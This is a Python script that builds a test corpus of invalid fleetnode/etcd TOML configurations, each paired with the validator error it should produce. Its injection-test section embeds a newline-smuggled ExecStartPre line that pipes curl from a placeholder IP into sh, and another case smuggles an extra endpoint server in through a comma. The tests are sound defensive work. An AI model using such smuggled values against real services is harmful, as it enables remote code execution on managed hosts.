#!/usr/bin/env python3
"""Writes the bad-config corpus: one folder per case below tests/bad-configs/.

The folders are the source of truth (generators/tests/bad_configs.rs reads only them); this
script is how most of them were written, with each expectation stated here by hand: the
position is computed from a marker in the input (the span the validator must point at), the
message is what the diagnostic must say. It never reads the program's output.

    python3 tests/bad-configs/make-corpus.py        # (re)writes the cases listed below

A case folder holds:
  etc/...       the input tree (FLEETNODE_ROOT), copied to a scratch root for each run
  expected      line 1: `FILE[:LINE:COL]: error: [KEY: ]MESSAGE` (the first diagnostic,
                without its hint); optional line 2: `hint: TEXT` (the hint, exactly)
  setup         optional: things git cannot hold, created in the scratch root at run time
                (see tests/bad-configs/README.md)
  known-failure optional: why this case is expected to fail for now (a bug report)
Cases added by hand (folders not listed here) are left alone.
"""

import os
import shutil
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
MAIN = "/etc/fleetnode.toml"
NODE = '[node]\nname = "infra0"\naddress = "10.0.0.10"\n'
PEERS = 'peers = { infra0 = "10.0.0.10", infra1 = "10.0.0.11", infra2 = "10.0.0.12" }\n'
BASE = NODE + "\n[etcd]\n" + PEERS
CTRL = "newlines, tabs and other control characters are not allowed in any value"

CASES = []


def at(text, needle, nth=0):
    """`LINE:COL` of the nth occurrence of `needle` in `text` (1-based, columns in chars)."""
    if isinstance(text, bytes):
        text = text.decode("utf-8", "replace")
    i = -1
    for _ in range(nth + 1):
        i = text.index(needle, i + 1)
    line = text.count("\n", 0, i) + 1
    col = i - (text.rfind("\n", 0, i) + 1) + 1
    return f"{line}:{col}"


def case(name, files, expected, hint=None, setup=None, known=None):
    CASES.append((name, files, expected, hint, setup, known))


def main_case(name, text, needle, key, message=None, hint=None, nth=0, pos=None, **kw):
    """A case with only /etc/fleetnode.toml; the diagnostic points at `needle` (or `pos`:
    the end of the text, which no needle can name)."""
    pos = pos or at(text, needle, nth)
    k = f"{key}: " if key else ""
    case(name, {"etc/fleetnode.toml": text}, f"{MAIN}:{pos}: error: {k}{message}", hint, **kw)


def ctrl(name, text, needle, key, code):
    main_case(name, text, needle, key, f"contains the control character U+{code:04X}", CTRL)


# ---------------------------------------------------------------- syntax errors
t = NODE + '\n[etcd]\ncluster_token = "fleet-prod\n' + PEERS
main_case("syntax-unterminated-string", t, '\n' + PEERS, "", "TOML syntax: invalid basic string, expected `\"`")
t = NODE.replace('name = "infra0"', 'name "infra0"') + "\n[etcd]\n" + PEERS
main_case("syntax-missing-equals", t, '"infra0"', "", "TOML syntax: key with no value, expected `=`")
t = NODE + 'name = "infra1"\n\n[etcd]\n' + PEERS
main_case("syntax-duplicate-key", t, "name", "", "TOML syntax: duplicate key", nth=1)
t = BASE + '\n[node]\ninterface = "eth0"\n'
main_case("syntax-duplicate-table", t, "node]", "", "TOML syntax: duplicate key", nth=1)
t = "[node\n" + BASE[7:]
main_case("syntax-unclosed-table-header", t, "\n", "", "TOML syntax: unclosed table, expected `]`")
t = NODE + '\n[etcd]\npeers = { infra0 = "10.0.0.10", infra1 = "10.0.0.11"\n'
main_case("syntax-unclosed-inline-table", t, '\n', "", "TOML syntax: unclosed inline table, expected `}`", nth=5)
t = NODE + '\n[etcd]\nrole = "client"\nendpoints = ["http://10.0.0.10:2379"\n'
main_case("syntax-unclosed-array", t, '\n', "", "TOML syntax: unclosed array, expected `]`", nth=6)
t = BASE + '"just a value"\n'
main_case("syntax-value-without-key", t, '\n', "", "TOML syntax: key with no value, expected `=`", nth=6)
t = BASE + 'cluster_token = "fleet\\qprod"\n'
main_case("syntax-invalid-escape", t, "qprod", "", "TOML syntax: missing escaped value, expected `b`, `e`, `f`, `n`, `r`, `\\`, `\"`, `x`, `u`, `U`")
t = BASE + 'client_port = 02379\n'
main_case("syntax-leading-zero", t, "02379", "", "TOML syntax: unexpected leading zero, expected nothing")
t = BASE + 'cluster_token = 1979-13-27\n'
main_case("syntax-invalid-date", t, "1979", "", "TOML syntax: invalid date, expected month between 01 and 12")
t = BASE + 'cluster_token = """fleet\n'
main_case("syntax-unterminated-multiline-string", t, None, "", "TOML syntax: invalid multi-line basic string, expected `\"`", pos="8:1")
t = BASE + 'cluster_token = "\\uD800"\n'
main_case("syntax-surrogate-escape", t, "D800", "", "TOML syntax: invalid value, expected unicode hexadecimal value")
t = BASE + 'cluster_token = "a\x01b"\n'
main_case("syntax-raw-control-character", t, "\x01", "", "TOML syntax: invalid basic string, expected non-double-quote visible characters, `\\`")
t = BASE + 'client_port = 99999999999999999999\n'
main_case("syntax-integer-overflow", t, "99999", "", "integer out of range")
t = NODE + "\n[etcd]\npeers.infra0 = \"10.0.0.10\"\n[etcd.peers]\ninfra1 = \"10.0.0.11\"\n"
main_case("syntax-table-redefined-after-dotted-keys", t, "peers]", "", "TOML syntax: duplicate key")
t = "a = " + "[" * 200 + "]" * 200 + "\n"
main_case("syntax-deeply-nested-arrays", t, "[", "", "TOML syntax: cannot recurse further; max recursion depth met", nth=80)
t = ".".join(["a"] * 200) + " = 1\n"
main_case("syntax-deeply-nested-dotted-keys", t, "a", "", "TOML syntax: recursion limit")
t = "a = " + "{ a = " * 200 + "1" + " }" * 200 + "\n"
main_case("syntax-deeply-nested-inline-tables", t, "{ a", "", "TOML syntax: cannot recurse further; max recursion depth met", nth=80)
case("syntax-error-in-dropin",
     {"etc/fleetnode.toml": BASE, "etc/fleetnode.d/20-proxy.toml": '[proxy]\nhttp = "http://proxy.corp:3128\n'},
     "/etc/fleetnode.d/20-proxy.toml:2:31: error: TOML syntax: invalid basic string, expected `\"`")

# ---------------------------------------------------------------- wrong types
def typed(name, extra, needle, key, expected_type, found, hint=None, base=BASE):
    t = base + extra
    main_case(name, t, needle, key, f"expected {expected_type}, found {found}", hint)

typed("type-node-name-integer", "", "5", "node.name", "a string", "an integer", "put the value in double quotes",
      base=BASE.replace('name = "infra0"', "name = 5"))
typed("type-node-address-array", "", '["10', "node.address", "a string", "an array", None,
      base=BASE.replace('address = "10.0.0.10"', 'address = ["10.0.0.10"]'))
typed("type-client-port-string", 'client_port = "2379"\n', '"2379"', "etcd.client_port", "an integer", "a string", "write a number without quotes")
typed("type-peer-port-float", 'peer_port = 2380.0\n', "2380.0", "etcd.peer_port", "an integer", "a float")
typed("type-peers-array", "", '["infra0"]', "etcd.peers", "a table", "an array",
      base=NODE + '\n[etcd]\npeers = ["infra0"]\n')
typed("type-peer-address-integer", "", "11 ", "etcd.peers.infra1", "a string", "an integer",
      base=NODE + '\n[etcd]\npeers = { infra0 = "10.0.0.10", infra1 = 11 }\n')
typed("type-fleet-enabled-string", '\n[fleet]\nenabled = "yes"\n', '"yes"', "fleet.enabled", "a boolean", "a string", "write true or false, without quotes")
typed("type-metadata-string", '\n[fleet]\nmetadata = "region=eu"\n', '"region=eu"', "fleet.metadata", "a table", "a string")
typed("type-no-proxy-string", '\n[proxy]\nhttp = "http://proxy.corp:3128"\nno_proxy = "corp.example"\n', '"corp.example"', "proxy.no_proxy", "an array of strings", "a string", 'write a list: ["a", "b"]')
typed("type-authorized-keys-string", '\n[core]\nauthorized_keys = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA ops@corp"\n', '"ssh-', "core.authorized_keys", "an array of strings", "a string")
typed("type-authorized-keys-element", '\n[core]\nauthorized_keys = [1]\n', "1]", "core.authorized_keys[0]", "a string", "an integer")
typed("type-client-cert-auth-string", '\n[etcd.tls]\nclient_cert_auth = "true"\n', '"true"', "etcd.tls.client_cert_auth", "a boolean", "a string")
typed("type-health-interval-integer", '\n[health]\ninterval = 30\n', "30", "health.interval", "a string", "an integer")
typed("type-tls-string", 'tls = "/etc/pki"\n', '"/etc/pki"', "etcd.tls", "a table", "a string")
typed("type-node-string", "", '"infra0"', "node", "a table", "a string",
      base='node = "infra0"\n\n[etcd]\n' + PEERS)
typed("type-node-array-of-tables", "", '[[node]]', "node", "a table", "an array",
      base='[[node]]\nname = "infra0"\naddress = "10.0.0.10"\n\n[etcd]\n' + PEERS)
typed("type-cluster-token-datetime", 'cluster_token = 1979-05-27T07:32:00Z\n', "1979", "etcd.cluster_token", "a string", "a date-time")
typed("type-etcd-role-boolean", 'role = true\n', "true", "etcd.role", "a string", "a boolean")
typed("type-data-dir-inline-table", 'data_dir = { path = "/var/lib/etcd" }\n', "{ path", "etcd.data_dir", "a string", "a table")
main_case("range-client-port-zero", BASE + "client_port = 0\n", "0\n", "etcd.client_port", "expected a port number from 1 to 65535, found 0")
main_case("range-peer-port-negative", BASE + "peer_port = -1\n", "-1", "etcd.peer_port", "expected a port number from 1 to 65535, found -1")
main_case("range-client-port-hex-too-big", BASE + "client_port = 0x10000\n", "0x10000", "etcd.client_port", "expected a port number from 1 to 65535, found 65536")
main_case("range-same-ports", BASE + "client_port = 2380\n", "2380", "etcd.peer_port", "client_port and peer_port are both 2380")

# ---------------------------------------------------------------- unknown keys
def unknown(name, text, needle, key, what, hint, nth=0):
    main_case(name, text, needle, key, what, hint, nth=nth)

unknown("unknown-section-typo", BASE + "\n[flet]\nenabled = true\n", "flet", "flet", "unknown section", 'did you mean "fleet"?')
unknown("unknown-section-capitalised", BASE + '\n[Fleet]\nenabled = true\n', "Fleet", "Fleet", "unknown section", 'did you mean "fleet"?')
unknown("unknown-section-unrelated", BASE + '\n[kubernetes]\nenabled = true\n', "kubernetes", "kubernetes", "unknown section",
        "known keys here: node, etcd, proxy, fleet, core, health")
unknown("unknown-key-node", BASE.replace("address", "adress"), "adress", "node.adress", "unknown key in [node]", 'did you mean "address"?')
unknown("unknown-key-etcd", NODE + '\n[etcd]\npeer = { infra0 = "10.0.0.10" }\n', "peer", "etcd.peer", "unknown key in [etcd]", 'did you mean "peers"?', nth=0)
unknown("unknown-key-tls", BASE + '\n[etcd.tls]\ncer = "/etc/pki/etcd/server.crt"\n', "cer ", "etcd.tls.cer", "unknown key in [etcd.tls]", 'did you mean "cert"?')
unknown("unknown-key-fleet", BASE + '\n[fleet]\nmetdata = { region = "eu" }\n', "metdata", "fleet.metdata", "unknown key in [fleet]", 'did you mean "metadata"?')
unknown("unknown-key-core-british", BASE + '\n[core]\nauthorised_keys = []\n', "authorised_keys", "core.authorised_keys", "unknown key in [core]", 'did you mean "authorized_keys"?')
unknown("unknown-key-health", BASE + '\n[health]\nintervall = "30s"\n', "intervall", "health.intervall", "unknown key in [health]", 'did you mean "interval"?')
unknown("unknown-key-proxy", BASE + '\n[proxy]\nhttp = "http://proxy.corp:3128"\nnoproxy = ["corp.example"]\n', "noproxy", "proxy.noproxy", "unknown key in [proxy]", 'did you mean "no_proxy"?')
unknown("unknown-key-dotted", BASE + 'tls.certfile = "/x"\n', "certfile", "etcd.tls.certfile", "unknown key in [etcd.tls]", None)
unknown("unknown-key-quoted-with-control", BASE + '"peers\\n" = 1\n', '"peers\\n"', 'etcd."peers\\u{000a}"', "unknown key in [etcd]", 'did you mean "peers"?')
case("unknown-key-in-dropin",
     {"etc/fleetnode.toml": BASE, "etc/fleetnode.d/10-fleet.toml": "[fleet]\nenable = false\n"},
     "/etc/fleetnode.d/10-fleet.toml:2:1: error: fleet.enable: unknown key in [fleet]", 'did you mean "enabled"?')

# ---------------------------------------------------------------- bootstrap conflicts
BOOT_HINT = "keep one of peers (static), discovery (discovery URL) or discovery_srv (DNS SRV); a later file in /etc/fleetnode.d may have added one"
t = BASE + 'discovery = "https://discovery.etcd.io/3e86b59982e49066c5d813af1c2e2579cbf573de"\n'
main_case("bootstrap-peers-and-discovery", t, "discovery", "etcd.discovery", "peers and discovery are set, but a member needs exactly one bootstrap method", BOOT_HINT)
t = BASE + 'discovery_srv = "example.com"\n'
main_case("bootstrap-peers-and-srv", t, "discovery_srv", "etcd.discovery_srv", "peers and discovery_srv are set, but a member needs exactly one bootstrap method")
t = NODE + '\n[etcd]\ndiscovery_srv = "example.com"\ndiscovery = "https://discovery.etcd.io/abc"\n'
main_case("bootstrap-discovery-and-srv", t, "discovery_srv", "etcd.discovery_srv", "discovery and discovery_srv are set, but a member needs exactly one bootstrap method")
t = BASE + 'discovery = "https://discovery.etcd.io/abc"\ndiscovery_srv = "example.com"\n'
main_case("bootstrap-all-three", t, "discovery =", "etcd.discovery", "peers and discovery and discovery_srv are set, but a member needs exactly one bootstrap method")
case("bootstrap-conflict-main-and-dropin",
     {"etc/fleetnode.toml": NODE + '\n[etcd]\ndiscovery = "https://discovery.etcd.io/abc"\n',
      "etc/fleetnode.d/50-srv.toml": '[etcd]\ndiscovery_srv = "example.com"\n'},
     "/etc/fleetnode.d/50-srv.toml:2:1: error: etcd.discovery_srv: discovery and discovery_srv are set, but a member needs exactly one bootstrap method", BOOT_HINT)
case("bootstrap-conflict-two-dropins",
     {"etc/fleetnode.toml": NODE,
      "etc/fleetnode.d/10-static.toml": "[etcd]\n" + PEERS,
      "etc/fleetnode.d/20-discovery.toml": '# from the Foreman host group\n[etcd]\ndiscovery = "https://discovery.etcd.io/abc"\n'},
     "/etc/fleetnode.d/20-discovery.toml:3:1: error: etcd.discovery: peers and discovery are set, but a member needs exactly one bootstrap method", BOOT_HINT)
case("bootstrap-conflict-dotted-key-in-dropin",
     {"etc/fleetnode.toml": BASE, "etc/fleetnode.d/90-override.toml": 'etcd.discovery_srv = "example.com"\n'},
     "/etc/fleetnode.d/90-override.toml:1:6: error: etcd.discovery_srv: peers and discovery_srv are set, but a member needs exactly one bootstrap method")
case("bootstrap-none", {"etc/fleetnode.toml": NODE + '\n[etcd]\ncluster_token = "fleet-prod"\n'},
     f"{MAIN}: error: etcd.peers: no bootstrap method: a member needs one of etcd.peers, etcd.discovery or etcd.discovery_srv")
t = NODE + '\n[etcd]\nrole = "client"\nendpoints = ["http://10.0.0.11:2379"]\ndiscovery_srv = "example.com"\n'
main_case("bootstrap-client-with-srv", t, "discovery_srv", "etcd.discovery_srv", 'a node with role = "client" runs no etcd and does not bootstrap')
t = NODE + '\n[etcd]\nrole = "member"\ndiscovery = "https://discovery.etcd.io/abc"\nrole = "client"\n'
main_case("bootstrap-role-twice", t, "role", "", "TOML syntax: duplicate key", nth=1)
t = NODE + '\n[etcd]\nrole = "memeber"\n' + PEERS
main_case("bootstrap-role-typo", t, '"memeber"', "etcd.role", 'expected "member" or "client", found "memeber"', 'did you mean "member"?')

# ---------------------------------------------------------------- names and peers
PEERS_T = NODE.replace("infra0", "infra3").replace("10.0.0.10", "10.0.0.13") + "\n[etcd]\n" + PEERS
main_case("peers-name-missing", PEERS_T, "peers", "etcd.peers", 'this node\'s name "infra3" is not among the static peers',
          'did you mean node.name = "infra0"? Otherwise add infra3 = "<its address>" to etcd.peers')
t = NODE.replace("infra0", "web7") + "\n[etcd]\n" + PEERS
main_case("peers-name-missing-no-close-match", t, "peers", "etcd.peers", 'this node\'s name "web7" is not among the static peers',
          'add web7 = "<its address>" to etcd.peers, or set node.name to one of: infra0, infra1, infra2')
case("peers-name-missing-after-dropin-override",
     {"etc/fleetnode.toml": BASE, "etc/fleetnode.d/50-name.toml": '[node]\nname = "infra9"\n'},
     f"{MAIN}:{at(BASE, 'peers')}: error: etcd.peers: this node's name \"infra9\" is not among the static peers")
t = NODE.replace('name = "infra0"', 'name = "INFRA0"') + "\n[etcd]\n" + PEERS
main_case("peers-name-case-differs", t, "peers", "etcd.peers", 'this node\'s name "INFRA0" is not among the static peers', 'did you mean node.name = "infra0"? Otherwise add INFRA0 = "<its address>" to etcd.peers')
case("peers-name-from-hostname-missing",
     {"etc/fleetnode.toml": '[node]\naddress = "10.0.0.10"\n\n[etcd]\n' + PEERS, "etc/hostname": "web1.corp.example\n"},
     f"{MAIN}:{at(chr(10) * 4 + PEERS, 'peers')}: error: etcd.peers: this node's name \"web1\" (from the host name) is not among the static peers")
case("peers-no-name-no-hostname", {"etc/fleetnode.toml": '[node]\naddress = "10.0.0.10"\n\n[etcd]\n' + PEERS},
     f"{MAIN}: error: node.name: not set, and the static host name is unknown", "set node.name")
case("peers-hostname-not-a-member-name",
     {"etc/fleetnode.toml": '[node]\naddress = "10.0.0.10"\n\n[etcd]\n' + PEERS, "etc/hostname": "infra_0!\n"},
     f'{MAIN}: error: node.name: expected an etcd member name (from the host name), found "infra_0!"')
t = BASE.replace('address = "10.0.0.10"', 'address = "10.0.0.20"')
main_case("peers-own-address-differs", t, '"10.0.0.10"', "etcd.peers.infra0", 'this node\'s peer address "10.0.0.10" differs from node.address "10.0.0.20"')
main_case("peers-empty-table", NODE + "\n[etcd]\npeers = {}\n", "peers", "etcd.peers", "the peer table is empty")
t = NODE + '\n[etcd]\npeers = { infra0 = "10.0.0.10", infra1 = "10.0.0.11", infra2 = "10.0.0.11" }\n'
main_case("peers-duplicate-address", t, '"10.0.0.11"', "etcd.peers.infra2", 'the same address as peer "infra1"', nth=1)
t = '[node]\nname = "infra0"\naddress = "fd00::10"\n\n[etcd]\npeers = { infra0 = "fd00::10", infra1 = "fd00:0:0::0010" }\n'
main_case("peers-duplicate-ipv6-spelled-differently", t, '"fd00:0:0', "etcd.peers.infra1", 'the same address as peer "infra0"')
t = NODE + '\n[etcd]\npeers = { infra0 = "10.0.0.10", infra1 = "Node1.corp.example", infra2 = "node1.CORP.example" }\n'
main_case("peers-duplicate-host-name-case", t, '"node1.CORP', "etcd.peers.infra2", 'the same address as peer "infra1"')
t = NODE + '\n[etcd]\npeers = { infra0 = "10.0.0.10", Infra1 = "10.0.0.11", infra1 = "10.0.0.12" }\n'
main_case("peers-names-differ-only-in-case", t, "infra1 =", "etcd.peers.infra1", 'peer name differs only in case from "Infra1"')
t = NODE + '\n[etcd]\npeers = { infra0 = "10.0.0.10", infra1 = "10.0.0.11", infra1 = "10.0.0.12" }\n'
main_case("peers-duplicate-name-same-table", t, "infra1", "", "TOML syntax: duplicate key", nth=1)
case("peers-duplicate-address-across-files",
     {"etc/fleetnode.toml": BASE, "etc/fleetnode.d/30-more-peers.toml": '[etcd.peers]\ninfra3 = "10.0.0.12"\n'},
     '/etc/fleetnode.d/30-more-peers.toml:2:10: error: etcd.peers.infra3: the same address as peer "infra2"')
t = NODE + '\n[etcd]\npeers = { infra0 = "10.0.0.10", "infra=1" = "10.0.0.11" }\n'
main_case("peers-name-with-equals", t, '"infra=1"', 'etcd.peers."infra=1"', 'expected an etcd member name as the peer\'s key, found "infra=1"')
t = NODE + '\n[etcd]\npeers = { infra0 = "10.0.0.10", "infra1,infra2" = "10.0.0.11" }\n'
main_case("peers-name-with-comma", t, '"infra1,', 'etcd.peers."infra1,infra2"', 'expected an etcd member name as the peer\'s key, found "infra1,infra2"')
t = NODE + '\n[etcd]\npeers = { infra0 = "10.0.0.10", -infra1 = "10.0.0.11" }\n'
main_case("peers-name-leading-dash", t, "-infra1", "etcd.peers.-infra1", 'expected an etcd member name as the peer\'s key, found "-infra1"')
long = "a" * 64
t = NODE + f'\n[etcd]\npeers = {{ infra0 = "10.0.0.10", {long} = "10.0.0.11" }}\n'
main_case("peers-name-too-long", t, long, f"etcd.peers.{long}", f'expected an etcd member name as the peer\'s key, found "{long}"')
t = NODE + '\n[etcd]\npeers = { infra0 = "10.0.0.10", infra1 = "10.0.0.11:2380" }\n'
main_case("peers-address-with-port", t, '"10.0.0.11:2380"', "etcd.peers.infra1", 'expected the peer\'s IP address or host name, found "10.0.0.11:2380"',
          "e.g. infra1 = \"10.0.0.11\"; the port comes from etcd.peer_port")
t = NODE + '\n[etcd]\npeers = { infra0 = "10.0.0.10", infra1 = "http://10.0.0.11:2380" }\n'
main_case("peers-address-is-url", t, '"http', "etcd.peers.infra1", 'expected the peer\'s IP address or host name, found "http://10.0.0.11:2380"')
t = NODE + '\n[etcd]\npeers = { infra0 = "10.0.0.10", infra1 = "" }\n'
main_case("peers-address-empty", t, '""', "etcd.peers.infra1", 'expected the peer\'s IP address or host name, found ""')
t = NODE + '\n[etcd]\npeers = { infra0 = "10.0.0.10", infra1 = "10.0.0.300" }\n'
main_case("peers-address-bad-ipv4", t, '"10.0.0.300"', "etcd.peers.infra1", 'expected the peer\'s IP address or host name, found "10.0.0.300"')

# ---------------------------------------------------------------- URLs
DISC_HINT = 'e.g. "https://discovery.etcd.io/<token>"'
def disc(name, url, message, hint=None):
    t = NODE + f'\n[etcd]\ndiscovery = "{url}"\n'
    main_case(name, t, '"' + url[:4], "etcd.discovery", message, hint)

disc("url-discovery-ftp", "ftp://discovery.etcd.io/abc", 'expected an http(s) discovery URL: the scheme must be http or https, not "ftp"', DISC_HINT)
disc("url-discovery-no-token", "https://discovery.etcd.io/", "the discovery URL has no token path")
disc("url-discovery-no-scheme", "discovery.etcd.io/abc", "expected an http(s) discovery URL: missing scheme (http:// or https://)")
disc("url-discovery-space", "https://discovery.etcd.io/a bc", "expected an http(s) discovery URL: contains ' '")
disc("url-discovery-no-host", "https:///abc", "expected an http(s) discovery URL: missing host")
disc("url-discovery-port-zero", "https://discovery.etcd.io:0/abc", "expected an http(s) discovery URL: the port must be a number from 1 to 65535")
disc("url-discovery-port-too-big", "https://discovery.etcd.io:65536/abc", "expected an http(s) discovery URL: the port must be a number from 1 to 65535")
disc("url-discovery-unclosed-ipv6", "https://[fd00::1/abc", "expected an http(s) discovery URL: unclosed '[' in the host")
disc("url-discovery-bad-ipv6", "https://[fd00::g]/abc", "expected an http(s) discovery URL: invalid IPv6 address in brackets")
disc("url-discovery-underscore-host", "https://disc_overy.example/abc", "expected an http(s) discovery URL: the host is not a valid host name or IP address")
disc("url-discovery-quote-in-host", 'https://disc\\"overy.example/abc', "expected an http(s) discovery URL: the host is not a valid host name or IP address")
t = NODE + '\n[etcd]\ndiscovery_srv = "_etcd-server._tcp.example.com"\n'
main_case("url-srv-underscore", t, '"_etcd', "etcd.discovery_srv", 'expected a DNS domain, found "_etcd-server._tcp.example.com"')
t = NODE + '\n[etcd]\ndiscovery_srv = "10.0.0.1"\n'
main_case("url-srv-is-ip", t, '"10.0.0.1"', "etcd.discovery_srv", 'expected a DNS domain, found "10.0.0.1"')
CLIENT = NODE + '\n[etcd]\nrole = "client"\n'
t = CLIENT + 'endpoints = ["10.0.0.11:2379"]\n'
main_case("url-endpoint-no-scheme", t, '"10.0.0.11', "etcd.endpoints[0]", 'expected an http(s) URL, found "10.0.0.11:2379": missing scheme (http:// or https://)', 'e.g. "http://10.0.0.10:2379"')
t = CLIENT + 'endpoints = ["http://10.0.0.11:2379", "unix:///var/run/etcd.sock"]\n'
main_case("url-endpoint-unix-scheme", t, '"unix', "etcd.endpoints[1]", 'expected an http(s) URL, found "unix:///var/run/etcd.sock": the scheme must be http or https, not "unix"')
t = CLIENT + 'endpoints = ["http://root:secret@10.0.0.11:2379"]\n'
main_case("url-endpoint-credentials", t, '"http', "etcd.endpoints[0]", "credentials in an endpoint URL are not supported")
t = CLIENT + "endpoints = []\n"
main_case("url-endpoints-empty", t, "[]", "etcd.endpoints", "the endpoint list is empty")
t = CLIENT + 'endpoints = ["http://10.0.0.11:2379/,http://203.0.113.66:2379"]\n'
main_case("url-endpoint-comma-adds-a-server", t, '"http', "etcd.endpoints[0]",
          'expected an http(s) URL, found "http://10.0.0.11:2379/,http://203.0.113.66:2379": contains \',\'',
          known="src/net.rs Url::parse accepts ',' in the path, and render joins endpoints with ',' into FLEET_ETCD_SERVERS: fleet then talks to a second, unconfigured server (203.0.113.66)")
t = BASE + '\n[proxy]\nhttp = "proxy.corp:3128"\n'
main_case("url-proxy-no-scheme", t, '"proxy', "proxy.http", "expected an http(s) proxy URL: missing scheme (http:// or https://)",
          'e.g. "http://proxy.corp:3128" or "http://user:password@proxy.corp:3128"')
t = BASE + '\n[proxy]\nhttps = "socks5://proxy.corp:1080"\n'
main_case("url-proxy-socks", t, '"socks5', "proxy.https", 'expected an http(s) proxy URL: the scheme must be http or https, not "socks5"')
t = BASE + '\n[proxy]\nno_proxy = ["corp.example"]\n'
case("url-proxy-without-urls", {"etc/fleetnode.toml": t}, f"{MAIN}: error: proxy: the [proxy] section sets neither http nor https",
     "set proxy.http and/or proxy.https, or remove [proxy]")
t = BASE + '\n[proxy]\nhttp = "http://proxy.corp:3128"\nno_proxy = ["corp.example, .svc"]\n'
main_case("url-no-proxy-comma", t, '"corp.example, .svc"', "proxy.no_proxy[0]", 'expected a host, domain, IP address or CIDR, found "corp.example, .svc"')
t = BASE + '\n[proxy]\nhttp = "http://proxy.corp:3128"\nno_proxy = ["10.0.0.0/33"]\n'
main_case("url-no-proxy-bad-cidr", t, '"10.0.0.0/33"', "proxy.no_proxy[0]", 'expected a host, domain, IP address or CIDR, found "10.0.0.0/33"')

# ---------------------------------------------------------------- metadata
MD_VAL_HINT = "fleet would silently drop it: use a non-empty value without ',', '=', '\"' or whitespace"
MD_KEY_HINT = "fleet splits FLEET_METADATA on ',' and '=' and trims spaces: use a non-empty key without ',', '=', '\"' or whitespace"
def md(name, inline, needle, key, message, hint=None, nth=0):
    t = BASE + f"\n[fleet]\nenabled = true\nmetadata = {{ {inline} }}\n"
    main_case(name, t, needle, key, message, hint, nth=nth)

md("metadata-value-comma", 'region = "eu,us", az = "a"', '"eu,us"', "fleet.metadata.region", 'the metadata value "eu,us" cannot be passed to fleet', MD_VAL_HINT)
md("metadata-value-equals", 'region = "eu=1"', '"eu=1"', "fleet.metadata.region", 'the metadata value "eu=1" cannot be passed to fleet')
md("metadata-value-space", 'region = "eu central"', '"eu central"', "fleet.metadata.region", 'the metadata value "eu central" cannot be passed to fleet')
md("metadata-value-empty", 'region = ""', '""', "fleet.metadata.region", 'the metadata value "" cannot be passed to fleet')
md("metadata-value-quote", 'region = "eu\\"x"', '"eu', "fleet.metadata.region", 'the metadata value "eu\\"x" cannot be passed to fleet')
md("metadata-value-too-long", 'region = "' + "e" * 256 + '"', '"eee', "fleet.metadata.region", 'the metadata value "' + "e" * 76 + '..." cannot be passed to fleet')
md("metadata-value-nbsp", 'region = "eu\u00a0central"', '"eu', "fleet.metadata.region", 'the metadata value "eu\u00a0central" cannot be passed to fleet')
md("metadata-key-space", '"data center" = "fra1"', '"data center"', 'fleet.metadata."data center"', 'the metadata key "data center" cannot be passed to fleet', MD_KEY_HINT)
md("metadata-key-empty", '"" = "fra1"', '""', 'fleet.metadata.""', 'the metadata key "" cannot be passed to fleet')
md("metadata-key-equals", '"dc=x" = "fra1"', '"dc=x"', 'fleet.metadata."dc=x"', 'the metadata key "dc=x" cannot be passed to fleet')
md("metadata-value-injects-pair", 'region = "eu,role=db"', '"eu,role=db"', "fleet.metadata.region", 'the metadata value "eu,role=db" cannot be passed to fleet')
md("metadata-value-integer", "rack = 12", "12 }", "fleet.metadata.rack", "expected a string, found an integer")
case("metadata-bad-value-in-dropin",
     {"etc/fleetnode.toml": BASE + '\n[fleet.metadata]\nregion = "eu"\n', "etc/fleetnode.d/40-az.toml": '[fleet.metadata]\naz = "eu 1a"\n'},
     '/etc/fleetnode.d/40-az.toml:2:6: error: fleet.metadata.az: the metadata value "eu 1a" cannot be passed to fleet', MD_VAL_HINT)

# ---------------------------------------------------------------- injection attempts
INJ = "\\nExecStartPre=/bin/sh -c 'curl http://203.0.113.66 | sh'"
ctrl("inject-newline-cluster-token", BASE + f'cluster_token = "fleet{INJ}"\n', '"fleet', "etcd.cluster_token", 0x0A)
ctrl("inject-newline-data-dir", BASE + f'data_dir = "/var/lib/etcd{INJ}"\n', '"/var', "etcd.data_dir", 0x0A)
ctrl("inject-newline-node-name", BASE.replace('"infra0"', f'"infra0{INJ}"', 1), '"infra0\\n', "node.name", 0x0A)
ctrl("inject-newline-node-address", BASE.replace('"10.0.0.10"', f'"10.0.0.10{INJ}"', 1), '"10.0.0.10\\n', "node.address", 0x0A)
ctrl("inject-newline-interface", '[node]\nname = "infra0"\n' + f'interface = "eth0{INJ}"\n\n[etcd]\n' + PEERS, '"eth0', "node.interface", 0x0A)
ctrl("inject-newline-discovery", NODE + f'\n[etcd]\ndiscovery = "https://discovery.etcd.io/abc{INJ}"\n', '"https', "etcd.discovery", 0x0A)
ctrl("inject-newline-discovery-srv", NODE + f'\n[etcd]\ndiscovery_srv = "example.com{INJ}"\n', '"example', "etcd.discovery_srv", 0x0A)
main_case("inject-newline-endpoint", CLIENT + f'endpoints = ["http://10.0.0.11:2379{INJ}"]\n', '"http', "etcd.endpoints[0]", "contains the control character U+000A", CTRL,
          known="src/config.rs endpoints(): string_array drops the rejected element, so a non-empty list whose only element is invalid ALSO gets \"the endpoint list is empty\", and that one sorts first (it points at the '[' one column earlier): the first diagnostic is wrong")
ctrl("inject-newline-endpoint-second", CLIENT + f'endpoints = ["http://10.0.0.11:2379", "http://10.0.0.12:2379{INJ}"]\n', '"http://10.0.0.12', "etcd.endpoints[1]", 0x0A)
ctrl("inject-toml11-hex-escape-newline", BASE + 'cluster_token = "fleet\\x0aExecStartPre=/bin/true"\n', '"fleet', "etcd.cluster_token", 0x0A)
ctrl("inject-toml11-hex-escape-nul", BASE + 'data_dir = "/var/lib/etcd\\x00"\n', '"/var', "etcd.data_dir", 0x00)
ctrl("inject-toml11-escape-e", BASE.replace('"infra0"', '"infra0\\e[31m"', 1), '"infra0\\e', "node.name", 0x1B)
ctrl("inject-newline-proxy", BASE + f'\n[proxy]\nhttp = "http://proxy.corp:3128{INJ}"\n', '"http', "proxy.http", 0x0A)
ctrl("inject-newline-no-proxy", BASE + f'\n[proxy]\nhttp = "http://proxy.corp:3128"\nno_proxy = ["corp.example{INJ}"]\n', '"corp', "proxy.no_proxy[0]", 0x0A)
ctrl("inject-newline-metadata-value", BASE + f'\n[fleet.metadata]\nregion = "eu{INJ}"\n', '"eu', "fleet.metadata.region", 0x0A)
ctrl("inject-newline-peer-address", NODE + f'\n[etcd]\npeers = {{ infra0 = "10.0.0.10", infra1 = "10.0.0.11{INJ}" }}\n', '"10.0.0.11', "etcd.peers.infra1", 0x0A)
